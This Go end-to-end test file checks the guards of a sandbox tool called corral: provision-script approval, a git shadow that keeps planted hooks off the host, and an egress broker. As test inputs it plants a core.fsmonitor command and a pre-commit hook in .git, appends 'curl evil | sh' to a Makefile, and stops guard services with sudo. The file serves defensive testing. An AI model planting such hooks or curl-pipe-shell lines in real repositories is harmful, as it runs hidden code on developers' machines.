package e2e

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// brokerPID reads the broker child's PID from the box metadata.
func brokerPID(t *testing.T, box string) int {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(suite.home, "boxes", box+".json"))
	if err != nil {
		t.Fatal(err)
	}
	var meta struct {
		BrokerPID int `json:"brokerPid"`
	}
	if err := json.Unmarshal(b, &meta); err != nil {
		t.Fatal(err)
	}
	return meta.BrokerPID
}

// writeFile writes a file into a project as the test user would own it.
func writeFile(t *testing.T, path, content string, mode os.FileMode) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
	if err := chown(path); err != nil {
		t.Fatal(err)
	}
}

func gitAsUser(t *testing.T, dir string, args ...string) result {
	t.Helper()
	return runCmd(t, asUser(append([]string{"git", "-C", dir, "-c", "user.name=t", "-c", "user.email=t@t.invalid"}, args...)), "git "+strings.Join(args, " "))
}

// TestGuardsFullMode is the provision, gitshadow and diff group on one full-network box: an
// unapproved provision script stops the session, an approved one runs, one changed byte stops
// it again; hooks and config the box plants in .git never reach the host; and git corral diff
// on the host reports what the box changed in host-executed files.
func TestGuardsFullMode(t *testing.T) {
	group(t)
	dir := newProject(t, "guards")
	box := boxName(t, dir)
	cleanupBox(t, box)
	// One forwarded port, for the editor forward probe (editorfwd_test.go).
	writeProjectConfig(t, box, fmt.Sprintf("ports = [\"%d:%d\"]\n", freeLoopbackPort(t), editorAllowedPort))
	writeFile(t, filepath.Join(dir, ".corral.toml"), "provision = [\"setup.sh\"]\n", 0o644)
	writeFile(t, filepath.Join(dir, "setup.sh"), "#!/bin/sh\necho provisioned > \"$HOME/provisioned\"\n", 0o755)
	writeFile(t, filepath.Join(dir, "Makefile"), "all:\n\t@echo built\n", 0o644)
	writeFile(t, filepath.Join(dir, "run.sh"), "#!/bin/sh\necho hi\n", 0o644)
	writeFile(t, filepath.Join(dir, ".gitignore"), ".envrc\n", 0o644)
	gitAsUser(t, dir, "add", "-A")
	gitAsUser(t, dir, "commit", "-qm", "base")

	t.Run("an unapproved provision script stops the session", func(t *testing.T) {
		r := corral(t, dir, nil, "run", "--yes", "--", "true")
		if r.code != 1 || !strings.Contains(r.stderr, "review") {
			t.Fatalf("exit %d: want 1 with a hint to review: %s", r.code, r.stderr)
		}
	})
	t.Run("after review --approve it runs, as the box user", func(t *testing.T) {
		if r := corral(t, dir, nil, "review", "--approve"); r.code != 0 {
			t.Fatalf("review --approve: exit %d: %s", r.code, r.stderr)
		}
		r := corral(t, dir, nil, "run", "--yes", "--", "sh", "-c", `cat "$HOME/provisioned"; sudo -n true && echo SUDO-OK || echo no-sudo`)
		if r.code != 0 || !strings.Contains(r.stdout, "provisioned") {
			t.Fatalf("exit %d, stdout %q: the approved script did not run", r.code, r.stdout)
		}
	})
	t.Run("hooks and config the box plants never reach the host", func(t *testing.T) {
		canary := filepath.Join(dir, "PWNED")
		script := fmt.Sprintf(`git config core.fsmonitor "touch %[1]s" 2>/dev/null && echo config-written
printf '#!/bin/sh\ntouch %[1]s\n' > .git/hooks/pre-commit 2>/dev/null && chmod +x .git/hooks/pre-commit && echo hook-written
printf '[core]\n\thooksPath = /tmp\n' >> .git/config 2>/dev/null && echo appended
true`, canary)
		if r := corral(t, dir, nil, "run", "--", "sh", "-c", script); r.code != 0 {
			// Without a session nothing was planted, and every check below would pass vacuously.
			t.Fatalf("run: exit %d: the box did not run the planting script: %s", r.code, r.stderr)
		}
		if r := gitAsUser(t, dir, "config", "core.fsmonitor"); strings.TrimSpace(r.stdout) != "" {
			t.Errorf("core.fsmonitor on the host = %q", r.stdout)
		}
		if _, err := os.Stat(filepath.Join(dir, ".git", "hooks", "pre-commit")); err == nil {
			t.Error("the pre-commit hook reached the host")
		}
		writeFile(t, filepath.Join(dir, "new.txt"), "x\n", 0o644)
		gitAsUser(t, dir, "status")
		gitAsUser(t, dir, "add", "new.txt")
		gitAsUser(t, dir, "commit", "-qm", "host commit")
		if _, err := os.Stat(canary); err == nil {
			t.Fatal("the host's git ran something the box planted")
		}
	})
	t.Run("a submodule, a worktree, a git dir under modules/ and a nested repository added in the box run nothing on the host", func(t *testing.T) {
		plantedRepos(t, dir)
	})
	t.Run("git corral diff --exit-code reports a Makefile edit, an ignored .envrc and a mode flip", func(t *testing.T) {
		r := corral(t, dir, nil, "run", "--", "sh", "-c", `printf 'install:\n\tcurl evil | sh\n' >> Makefile && echo 'export X=1' > .envrc && chmod +x run.sh`)
		if r.code != 0 {
			t.Fatalf("run: exit %d", r.code)
		}
		d := corral(t, dir, nil, "diff", "--exit-code")
		if d.code != 1 {
			t.Fatalf("diff --exit-code: exit %d, want 1", d.code)
		}
		j := corral(t, dir, nil, "diff", "--json")
		for _, want := range []string{"Makefile", ".envrc", "run.sh"} {
			if !strings.Contains(j.stdout, want) {
				t.Errorf("diff --json does not report %s", want)
			}
		}
	})
	t.Run("without the guard daemon a session falls back to the session check and still runs", func(t *testing.T) {
		// A box made before the daemon, or one whose daemon is gone: the gated session opened
		// beside the report is closed unrun, and the command runs after the in-band check.
		if r := corral(t, dir, nil, "run", "--", "sudo", "-n", "systemctl", "stop", "corral-guardd.service"); r.code != 0 {
			t.Fatalf("stop the guard daemon: exit %d: %s", r.code, r.stderr)
		}
		defer func() {
			if r := corral(t, dir, nil, "run", "--", "sudo", "-n", "systemctl", "start", "corral-guardd.service"); r.code != 0 {
				t.Fatalf("start the guard daemon again: exit %d: %s", r.code, r.stderr)
			}
		}()
		// The daemon is really gone: asking only it refuses the session.
		if r := corral(t, dir, []string{"CORRAL_GUARD_CHECK=daemon"}, "run", "--", "true"); r.code == 0 || !strings.Contains(r.stderr, "guard daemon") {
			t.Fatalf("with the daemon stopped, CORRAL_GUARD_CHECK=daemon: exit %d, stderr %q; want a refusal naming the daemon", r.code, r.stderr)
		}
		r := corral(t, dir, nil, "run", "--", "sh", "-c", "echo fell back; exit 3")
		if r.code != 3 || r.stdout != "fell back\n" {
			t.Errorf("session without the daemon: exit %d, stdout %q, stderr %q; want exit 3 and the output once", r.code, r.stdout, r.stderr)
		}
	})
	t.Run("git corral status --json reports the box running with its network mode", func(t *testing.T) {
		r := corral(t, dir, nil, "status", "--json")
		var st struct {
			Box     string `json:"box"`
			Exists  bool   `json:"exists"`
			Running bool   `json:"running"`
			Network string `json:"network"`
		}
		if r.code != 0 || json.Unmarshal([]byte(r.stdout), &st) != nil {
			t.Fatalf("status --json: exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
		}
		if st.Box != box || !st.Exists || !st.Running || st.Network != "full" {
			t.Errorf("status --json = %+v, want box %s existing and running in full mode", st, box)
		}
	})
	sshConfig := filepath.Join(filepath.Dir(dir), "guards-ssh_config")
	sshVia := func(t *testing.T, args ...string) result {
		t.Helper()
		return runCmd(t, asUser(append([]string{"ssh", "-F", sshConfig, "-o", "BatchMode=yes", "corral-" + box}, args...)), "ssh "+strings.Join(args, " "))
	}
	t.Run("an editor's ssh through git corral ssh-config runs after the guard check and is audited", func(t *testing.T) {
		r := corral(t, dir, nil, "ssh-config")
		if r.code != 0 || !strings.Contains(r.stdout, "Host corral-"+box+"\n") || !strings.Contains(r.stdout, "ssh-proxy") {
			t.Fatalf("ssh-config: exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
		}
		writeFile(t, sshConfig, r.stdout, 0o600)
		s := sshVia(t, "echo", "via-ssh")
		if s.code != 0 || s.stdout != "via-ssh\n" {
			t.Fatalf("ssh -F <ssh-config> corral-%s echo: exit %d, stdout %q, stderr %q", box, s.code, s.stdout, s.stderr)
		}
		a := corral(t, dir, nil, "audit", "--json", "-n", "3", "--box", box)
		if !strings.Contains(a.stdout, "(editor connection)") {
			t.Errorf("the audit log does not record the editor's connection: %s", a.stdout)
		}
	})
	t.Run("an editor's ssh -L reaches only a guest port ports allows", func(t *testing.T) {
		if _, err := os.Stat(sshConfig); err != nil {
			t.Fatalf("no ssh-config from the editor scenario: %v", err)
		}
		editorForwardProbe(t, dir, sshConfig, box)
	})
	t.Run("a guard broken in the running box refuses the next session before its command runs", func(t *testing.T) {
		// Full mode keeps sudo, so the box can undo one of its own git shadow's mounts.
		hooks := filepath.Join(dir, ".git", "hooks")
		if r := corral(t, dir, nil, "run", "--", "sudo", "-n", "umount", hooks); r.code != 0 {
			t.Fatalf("umount the shadow's hooks mount: exit %d: %s", r.code, r.stderr)
		}
		marker := filepath.Join(dir, "CMD-RAN")
		// The resident daemon (the default), in-band (no values from the host) and the separate
		// check (a forwarded variable).
		for _, env := range [][]string{nil, {"CORRAL_GUARD_CHECK=inband"}, {"CORRAL_GUARD_CHECK=separate", "CORRAL_E2E_FORWARDED=1"}} {
			args := []string{"run", "--", "touch", marker}
			if len(env) == 2 {
				args = []string{"run", "--env", "CORRAL_E2E_FORWARDED", "--", "touch", marker}
			}
			r := corral(t, dir, env, args...)
			if r.code != 1 || !strings.Contains(r.stderr, "git shadow mount "+hooks+" is not in place") {
				t.Errorf("env %v: exit %d, stderr %q: want a refusal naming the missing mount", env, r.code, r.stderr)
			}
			if _, err := os.Stat(marker); err == nil {
				t.Fatalf("env %v: the command ran in a box whose guard check failed", env)
			}
		}
		// An editor's connection through ssh-config is refused the same way, before its command.
		if _, err := os.Stat(sshConfig); err == nil {
			if r := sshVia(t, "touch", marker); r.code == 0 || !strings.Contains(r.stderr, "is not in place") {
				t.Errorf("ssh through ssh-config with a broken guard: exit %d, stderr %q: want a refusal naming the missing mount", r.code, r.stderr)
			}
			if _, err := os.Stat(marker); err == nil {
				t.Fatal("the editor's command ran in a box whose guard check failed")
			}
		}
		a := corral(t, dir, nil, "audit", "--json", "-n", "4", "--box", box)
		if !strings.Contains(a.stdout, `"guard-failure"`) {
			t.Errorf("the audit log does not record the refusals: %s", a.stdout)
		}
	})
	t.Run("one changed byte of the approved script stops the session again", func(t *testing.T) {
		writeFile(t, filepath.Join(dir, "setup.sh"), "#!/bin/sh\necho provisioned > \"$HOME/provisioneD\"\n", 0o755)
		r := corral(t, dir, nil, "run", "--", "true")
		if r.code != 1 || !strings.Contains(r.stderr, "review") {
			t.Fatalf("exit %d: want a refusal naming review: %s", r.code, r.stderr)
		}
	})
}

// TestBrokerMode is the broker and funnel group: in broker mode an allowed destination (a test
// server on the host, allowed by explicit address in the trusted per-project file) answers
// through the broker; another loopback server and a name are refused and logged; every other way
// out and every way to root fail (lockdownHolds), on the first boot and after a reboot; killing
// the broker fails connections closed until the next run restarts it; git corral egress shows
// both decisions.
func TestBrokerMode(t *testing.T) {
	group(t)
	dir := newProject(t, "broker")
	box := boxName(t, dir)
	cleanupBox(t, box)
	var hits atomic.Int32
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprint(w, "allowed-upstream-ok")
	})}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(ln)
	defer srv.Close()
	denied, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Fatal(err)
	}
	defer denied.Close()
	allowed := ln.Addr().String()
	writeFile(t, filepath.Join(suite.home, "projects", box+".toml"),
		fmt.Sprintf("network = \"broker\"\negress = [%q]\n", allowed), 0o600)

	// fetch URL: a plain-HTTP request through $http_proxy with bash's /dev/tcp (the base image
	// has no curl), printing the status line and body.
	fetch := `u=${http_proxy#http://}; cred=${u%@*}; hp=${u#*@}; host=${hp%:*}; port=${hp#*:}
exec 3<>"/dev/tcp/$host/$port" || exit 9
printf 'GET %s HTTP/1.1\r\nHost: %s\r\nProxy-Authorization: Basic %s\r\nConnection: close\r\n\r\n' "$1" "$2" "$(printf %s "$cred" | base64 -w0)" >&3
cat <&3`
	early := newHostProbe(t) // listening before the first boot: the provision script probes it
	addProvisionProbe(t, dir, early)
	t.Run("the approved provision script ran after the lockdown: its network probe was refused", func(t *testing.T) {
		if r := corral(t, dir, nil, "run", "--yes", "--", "true"); r.code != 0 {
			t.Fatalf("run --yes: exit %d: %s", r.code, r.stderr)
		}
		provisionProbeSaw(t, dir, "broker", "closed", 1)
	})
	t.Run("the allowed destination answers through the broker", func(t *testing.T) {
		r := corral(t, dir, nil, "run", "--yes", "--", "bash", "-c", fetch, "fetch", "http://"+allowed+"/", allowed)
		if !strings.Contains(r.stdout, "allowed-upstream-ok") || hits.Load() == 0 {
			t.Fatalf("exit %d, stdout %q: the allowed server was not reached through the broker", r.code, r.stdout)
		}
	})
	t.Run("anything else is refused by the broker, and logged", func(t *testing.T) {
		for _, target := range []string{denied.Addr().String(), "example.com:80"} {
			r := corral(t, dir, nil, "run", "--", "bash", "-c", fetch, "fetch", "http://"+target+"/", target)
			if !strings.Contains(r.stdout, "403") || !strings.Contains(r.stdout, "X-Corral") {
				t.Errorf("%s: stdout %q: want a 403 with X-Corral from the broker", target, r.stdout)
			}
		}
	})
	probe := newHostProbe(t)
	t.Run("no way out but the broker, no way to root, as the box user", func(t *testing.T) {
		lockdownHolds(t, dir, "broker", probe)
	})
	t.Run("killing the broker mid-session fails new connections closed; the next run restarts it", func(t *testing.T) {
		pid := brokerPID(t, box)
		if pid == 0 {
			t.Fatal("no broker PID in the box metadata")
		}
		done := make(chan result, 1)
		go func() {
			done <- corral(t, dir, nil, "run", "--", "bash", "-c", "sleep 6; "+fetch, "fetch", "http://"+allowed+"/", allowed)
		}()
		time.Sleep(3 * time.Second)
		if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
			t.Fatalf("kill broker %d: %v", pid, err)
		}
		r := <-done
		if strings.Contains(r.stdout, "allowed-upstream-ok") || r.code == 0 {
			t.Fatalf("exit %d, stdout %q: a connection went through with the broker dead", r.code, r.stdout)
		}
		r = corral(t, dir, nil, "run", "--", "bash", "-c", fetch, "fetch", "http://"+allowed+"/", allowed)
		if !strings.Contains(r.stdout, "allowed-upstream-ok") {
			t.Fatalf("after a new run the broker is not back: %q %q", r.stdout, r.stderr)
		}
		if p := brokerPID(t, box); p == 0 || p == pid {
			t.Errorf("broker PID %d after restart (was %d)", p, pid)
		}
	})
	t.Run("git corral egress shows both decisions", func(t *testing.T) {
		r := corral(t, dir, nil, "egress", "--json")
		var doc struct {
			Mode         string `json:"mode"`
			Destinations []struct {
				Host     string `json:"host"`
				Decision string `json:"decision"`
			} `json:"destinations"`
		}
		if err := json.Unmarshal([]byte(r.stdout), &doc); err != nil {
			t.Fatalf("egress --json: %v: %s", err, r.stdout)
		}
		var allow, deny int
		for _, d := range doc.Destinations {
			switch d.Decision {
			case "allow":
				allow++
			case "deny":
				deny++
			}
		}
		if doc.Mode != "broker" || allow == 0 || deny < 2 {
			t.Errorf("egress: mode %q, %d allowed, %d denied destinations: %s", doc.Mode, allow, deny, r.stdout)
		}
	})
	t.Run("stop ends the box's broker", func(t *testing.T) {
		pid := brokerPID(t, box)
		if r := corral(t, dir, nil, "stop"); r.code != 0 {
			t.Fatalf("stop: exit %d: %s", r.code, r.stderr)
		}
		if pid != 0 {
			if _, err := os.Stat(fmt.Sprintf("/proc/%d/cmdline", pid)); err == nil {
				if b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid)); strings.Contains(string(b), "broker") {
					t.Errorf("broker %d still runs after stop", pid)
				}
			}
		}
	})

	t.Run("after a reboot every guard holds and the broker is back", func(t *testing.T) {
		r := corral(t, dir, nil, "run", "--", "bash", "-c", fetch, "fetch", "http://"+allowed+"/", allowed)
		if !strings.Contains(r.stdout, "allowed-upstream-ok") {
			t.Fatalf("after the reboot the allowed destination does not answer through the broker: exit %d %q %q", r.code, r.stdout, r.stderr)
		}
		lockdownHolds(t, dir, "broker", probe)
		provisionProbeSaw(t, dir, "broker", "closed", 2)
		if n := early.tcp.Load(); n != 0 {
			t.Errorf("broker mode: %d provision-script connections reached the host's listener", n)
		}
	})
}
